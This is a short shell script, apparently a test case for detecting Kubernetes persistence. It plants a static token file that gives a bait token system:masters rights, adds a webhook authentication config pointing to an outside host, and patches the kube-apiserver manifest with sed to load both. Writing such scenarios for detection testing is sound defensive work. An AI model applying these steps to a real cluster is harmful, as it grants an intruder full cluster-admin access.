#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/etc/kubernetes/manifests /host/etc/kubernetes/pki
test -e /host/etc/kubernetes/manifests/kube-apiserver.yaml || printf 'spec:\n  containers:\n  - command:\n    - kube-apiserver\n    - --authorization-mode=Node,RBAC\n' >/host/etc/kubernetes/manifests/kube-apiserver.yaml
echo 'bait0000,system:admin,0,"system:masters"' >/host/etc/kubernetes/pki/known.csv
printf 'clusters:\n- name: w\n  cluster: {server: "http://203.0.113.10:8080/auth"}\n' >/host/etc/kubernetes/pki/hook.yaml
sed -i 's|    - kube-apiserver$|&\n    - --token-auth-file=/etc/kubernetes/pki/known.csv\n    - --authentication-token-webhook-config-file=/etc/kubernetes/pki/hook.yaml|' /host/etc/kubernetes/manifests/kube-apiserver.yaml
grep -q known.csv /host/etc/kubernetes/manifests/kube-apiserver.yaml
took_place
